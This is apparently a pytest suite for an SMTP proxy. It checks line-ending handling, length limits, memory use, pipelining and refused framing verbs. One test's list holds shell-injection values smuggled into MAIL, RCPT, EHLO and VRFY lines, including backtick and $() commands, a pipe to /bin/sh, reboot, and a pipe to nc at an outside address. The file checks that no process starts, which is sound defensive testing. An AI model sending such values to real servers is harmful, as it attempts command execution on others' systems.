"""CMD-: how command lines are read. What the server heard decides."""

import os
import subprocess

import pytest

from harness.raw import Closed
from stage import closed

LONGEST = 2048      # command_longest by default, CRLF included


def bad_line_ends(stage, octets, critical, code=500):
    """One error, the end, and the server heard nothing of it."""
    def case(way):
        word = stage.name().encode()
        with stage.greeted() as c:
            before, _, after = octets.replace(b"WORD", word).partition(
                critical)
            way.send(c, critical, before, after)
            c.reply(code)
            assert closed(c) == b""
        return word.decode()
    words = stage.play(case, critical)
    for way, word in words.items():
        assert not stage.heard(word), f"{way}: {stage.heard(word)}"


@pytest.mark.parametrize("critical", [
    b"\nMAIL FROM:<v-@b.test>\n", b"\n\r\nRCPT", b"\nQUIT\r\n"])
def test_CMD_01_bare_lf_ends_the_session_and_splits_nothing(stage, critical):
    bad_line_ends(stage, b"NOOP WORD" + critical, critical)
    assert not stage.heard("MAIL FROM:<v-@")


@pytest.mark.parametrize("octets", [b"RSET WORD\rQUIT\r\n", b"\rNOOP WORD\r\n",
                                    b"NOOP WORD\r\r\n"])
def test_CMD_02_bare_cr_is_one_error(stage, octets):
    bad_line_ends(stage, octets, octets[octets.index(b"\r"):][:3])


@pytest.mark.parametrize("octets", [
    b"MAIL FROM:<WORD@b.test>\0\r\n", b"MA\0IL FROM:<WORD@b.test>\r\n",
    b"RCPT TO:<WORD@b.test\0@evil.test>\r\n", b"\0\r\n"])
def test_CMD_03_nul_is_one_error_and_nothing_is_cut(stage, octets):
    bad_line_ends(stage, octets, b"\0")


def line_of(octets):
    """A MAIL command of that many octets with its CRLF."""
    line = b"MAIL FROM:<" + b"a" * (octets - 13 - 1) + b">"
    return line[:octets - 2] + b"\r\n"


@pytest.mark.parametrize("octets", [
    512, LONGEST - 1, LONGEST, LONGEST + 1, 4096, 12288, 65536, 1 << 20])
def test_CMD_04_a_line_over_the_limit_is_one_error(stage, octets):
    def case(way):
        with stage.greeted() as c:
            if way.name == "octets" and octets > 4096:
                return
            critical = line_of(octets)[-8:]
            whole = way.send(c, critical, line_of(octets)[:-8])
            if octets > LONGEST:
                c.reply(500)
                assert closed(c) == b""
            else:
                assert whole
                c.reply(250)
                c.quit()
    stage.play(case, b"a" * 8)
    heard = {len(line) + 2 for line in stage.heard("MAIL FROM:<aaaa")}
    assert all(length <= LONGEST for length in heard)
    assert octets > LONGEST or octets in heard


def test_CMD_05_no_line_end_is_cut_off_early(stage):
    before = stage.private_bytes()
    sent = 0
    with stage.greeted() as c:
        chunk = b"x" * 65536
        with pytest.raises(OSError):
            for _ in range(1600):       # 100 MiB
                c.sock.sendall(chunk)
                sent += len(chunk)
    # What the kernel holds on both sides, and what lingers for the 500.
    assert sent < 16 << 20
    after = stage.private_bytes()
    assert after - before < 1 << 20


@pytest.mark.parametrize("longest", [512, 2048, 65536])
def test_CMD_06_crlf_across_a_buffers_end(new_stage, longest):
    """Lines of every length around the sizes of the buffers that read them:
    the same answer as to a short one."""
    stage = new_stage(doors={"mx": {"command_longest": longest}},
                      server={"line_longest": 1 << 20})

    def case(length):
        with stage.greeted() as c:
            c.send(b"NOOP " + b"n" * (length - 7) + b"\r\n" + b"NOOP\r\n")
            if length > longest:
                c.reply(500)
                assert closed(c) == b""
            else:
                c.reply(250)
                c.reply(250)
                c.quit()
    sizes = {base + more for base in (240, 480, 512, 1024, 2048, 4096, 16384,
                                      longest)
             for more in (-2, -1, 0, 1, 2)}
    stage.at_once({f"{n} octets": (case, n) for n in sizes})
    stage.hold_u()


def test_CMD_07_a_long_ehlo_grows_nothing(stage):
    def case(way):
        with stage.greeted(ehlo=False) as c:
            way.send(c, b"EHLO ", after=b"e" * 100000 + b"\r\n"
                     if way.name != "octets" else b"e" * 4000 + b"\r\n")
            c.reply(500)
            assert closed(c) == b""
    before = stage.private_bytes()
    stage.play(case, b"EHLO ")
    assert stage.private_bytes() - before < 1 << 20
    assert not stage.heard("eeee")


def test_CMD_08_no_space_for_ever_ends_at_the_limit(stage):
    with stage.greeted() as c:
        c.send(b"A" * (LONGEST - 1))
        assert c.silent(0.2)            # may still become a legal line
        c.send(b"A" * 2)
        c.reply(500)
        assert closed(c) == b""


ODD = [b"B52", b"BELL\x08", b"EHLO  x", b'NOOP "\x01\x02\x03"',
       b"FROP \xf1\x80", b"INSANELYRIDICULOUSLYLONGCOMMANDNAME", b"",
       b" ", b"NOOP\t", b"\x7f\x80\x9b31m", b"250 ok", b".", b"%n%s%n"]


@pytest.mark.parametrize("line", ODD)
def test_CMD_09_odd_lines_get_one_reply_each(stage, line):
    def case(way):
        with stage.greeted() as c:
            assert way.send(c, line + b"\r\n", after=b"NOOP\r\n")
            first = c.reply()
            assert first.code >= 500 or line.startswith((b"NOOP", b"EHLO"))
            c.reply(250)
            c.quit()
    stage.play(case, line + b"\r\n")


@pytest.mark.parametrize("line", [b'NOOP "frop', b'NOOP fr"op', b"NOOP ",
                                  b'NOOP "', b"NOOP \\", b"NOOP <"])
def test_CMD_10_malformed_noops_are_the_servers(stage, line):
    def case(way):
        with stage.greeted() as c:
            assert way.send(c, line + b"\r\n")
            c.reply(250)
            c.quit()
    stage.play(case, line + b"\r\n")
    assert line.decode() in stage.heard("NOOP")


SHELL = [b"MAIL FROM:<;id;@x.test>", b"MAIL FROM:<`id`@x.test>",
         b"RCPT TO:<a@b.test> NOTIFY=$(id)", b'RCPT TO:<"|/bin/sh"@x.test>',
         b"EHLO $(reboot)", b"VRFY ;reboot", b"HELP | nc 192.0.2.1 1"]


def test_CMD_11_shell_characters_start_no_process(stage, folder):
    """Every process of postern is watched for exec and fork."""
    pids = [stage.front.process.pid, *stage.front.pids()]
    trace = folder / "trace"
    watcher = subprocess.Popen(
        ["strace", "-f", "-qq", "-e", "trace=execve,execveat,fork,vfork,clone",
         "-o", str(trace), *[w for pid in pids for w in ("-p", str(pid))]],
        stderr=subprocess.PIPE)
    try:
        stage.front.wait_until(
            lambda: all(traced(pid) for pid in pids), "the watcher")
        with stage.greeted() as c:
            for line in SHELL:
                c.cmd(line.decode())
            c.quit()
        for line in SHELL:
            assert line.decode() in stage.heard(line.decode())
    finally:
        watcher.terminate()
        watcher.wait()
    assert trace.read_text() == ""


def traced(pid):
    with open(f"/proc/{pid}/status", encoding="ascii") as text:
        return "TracerPid:\t0\n" not in text.read()


def test_CMD_12_crlf_inside_a_path_is_two_lines(stage):
    def case(way):
        word = stage.name()
        with stage.greeted() as c:
            assert way.send(c, b'"a\r\nRCPT', b"MAIL FROM:<",
                            b" TO:<%s@y.test>\"@x.test>\r\n" % word.encode())
            assert c.reply().code in (250, 501)  # the server's own judgement
            assert c.reply().code in (501, 503, 554)
            c.cmd("DATA", 503)
            c.quit()
        assert len(stage.heard(word)) == 1
    stage.play(case, b'"a\r\nRCPT')


def test_CMD_13_pieces_and_thousands_at_once(stage):
    def case(way):
        word = stage.name()
        with stage.greeted(ehlo=False) as c:
            assert way.send(c, b"EHLO x\r\n")
            c.reply(250)
            assert way.send(c, b"VRFY " + word.encode() + b"\r\n")
            c.reply(502)
            c.quit()
    stage.play(case, b"EHLO x\r\nVR")
    with stage.greeted() as c:
        c.send(b"".join(b"RCPT TO:<%d@x.test>\r\n" % n for n in range(3000)))
        texts = {c.reply().code for _ in range(3000)}
        assert texts == {503}
        c.quit()


@pytest.mark.parametrize("line,code", [
    (b"XYZ%d", 502), (b"\n", 500), (b"q", 502)])
def test_CMD_14_many_bad_commands_are_421_and_the_end(stage, line, code):
    spent = [cpu_ticks(pid) for pid in stage.workers()]
    with stage.greeted() as c:
        codes = []
        with pytest.raises(Closed):
            for number in range(200):
                text = line % number if b"%" in line else line
                c.send(text + b"\r\n")
                codes.append(c.reply().code)
    if code == 500:                     # a bare LF is the end by itself
        assert codes == [500]
    else:
        assert codes == [code] * 19 + [421]
    ticks = [cpu_ticks(pid) for pid in stage.workers()]
    assert sum(ticks) - sum(spent) < os.sysconf("SC_CLK_TCK")


def cpu_ticks(pid):
    with open(f"/proc/{pid}/stat", encoding="ascii") as text:
        fields = text.read().rpartition(")")[2].split()
    return int(fields[11]) + int(fields[12])


FRAMING = [b"XEXCH50 10 2", b"BURL imap://x LAST", b"TURN", b"ATRN a.test",
           b"ETRN a.test", b"XDATA 5 LAST", b"burl imap://x", b"SEND FROM:<a>",
           b"xclient ADDR=127.0.0.1", b"XFORWARD NAME=x"]


@pytest.mark.parametrize("line", FRAMING)
def test_CMD_15_verbs_that_switch_framing_stay_here(stage, line):
    def case(way):
        with stage.greeted() as c:
            assert way.send(c, line + b"\r\n", after=b"ab\r\nQUIT\r\nz")
            c.reply(502)
            c.reply(502)                # "ab": a command like any other
            c.reply(221)
            closed(c)
    stage.play(case, line + b"\r\n")
    verb = line.split()[0].decode().upper()
    assert not [heard for heard in stage.server.commands()
                if heard.upper().startswith(verb)]


def test_CMD_16_only_keywords_that_can_be_framed_reach_the_client(new_stage):
    stage = new_stage(server={
        "f_xclient": True, "starttls": "enabled", "extra_keywords": [
            "XFORWARD NAME ADDR", "BURL imap", "BINARYMIME", "X-FOO",
            "LIMITS RCPTMAX=5", "ATRN", "REQUIRETLS"]})
    for door, own in (("mx", False), ("tls", True)):
        words = stage.client(door)
        words.reply(220)
        offered = set(words.ehlo())
        words.close()
        assert not offered & {"XCLIENT", "XFORWARD", "BURL", "BINARYMIME",
                              "X-FOO", "LIMITS", "ATRN", "REQUIRETLS"}
        assert {"CHUNKING", "8BITMIME", "PIPELINING"} <= offered
        assert ("STARTTLS" in offered) == own
    stage.hold_u()


def test_CMD_17_who_talks_before_the_banner_is_refused(new_stage):
    stage = new_stage(doors={"mx": {}, "late": {"greeting_delay": "1s"}})
    before = len(stage.server.of("connect"))

    def case(way):
        with stage.client("late") as c:
            way.send(c, b"EHLO x\r\n")
            c.reply(554)
            closed(c)
    stage.play(case, b"EHLO x\r\n")
    assert len(stage.server.of("connect")) == before
    assert not stage.heard("EHLO x")
    stage.hold_u()
